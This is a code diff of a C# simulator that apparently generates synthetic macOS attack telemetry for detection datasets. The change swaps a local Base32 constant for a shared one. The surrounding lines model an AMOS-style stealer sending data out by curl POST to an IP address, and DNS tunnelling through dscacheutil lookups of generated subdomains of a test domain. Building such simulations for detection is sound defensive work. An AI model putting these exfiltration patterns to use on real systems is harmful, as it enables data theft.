@@ -6,8 +6,6 @@ namespace Det0131.Datasets.Simulation.Acts;
 /// <summary>Acts on Macs (AN0369).</summary>
 internal static class MacActs
 {
-    private const string Base32 = "abcdefghijklmnopqrstuvwxyz234567";
-
     public static IEnumerable<ActScript> Scripts() =>
     [
         new(new Act("mac-amos", "AN0369", "T1048.003", "osascript, sh, curl multipart POST", "stealer, clear HTTP to an address", "mac-des-02", "45.9.148.31"), "mac-des-02", [0], Amos),
@@ -49,7 +47,7 @@ internal static class MacActs
         var at = stage.At(13.6);
         var shell = mac.Run(at, "/bin/zsh", mac.Launchd, "/bin/zsh", "/Users/nina.vogel/Library/.cache/a.sh");
         var time = at + 200_000;
-        foreach (var name in stage.TunnelNames(220, Base32, 52, 52, "q.assetcache.test"))
+        foreach (var name in stage.TunnelNames(220, TunnelAlphabet.Base32, 52, 52, "q.assetcache.test"))
         {
             var program = mac.Run(time, "/usr/bin/dscacheutil", shell, "dscacheutil", "-q", "host", "-a", "name", name);
             mac.Tunnel(program, time + 20_000, new DnsExchange(name, "A", null));
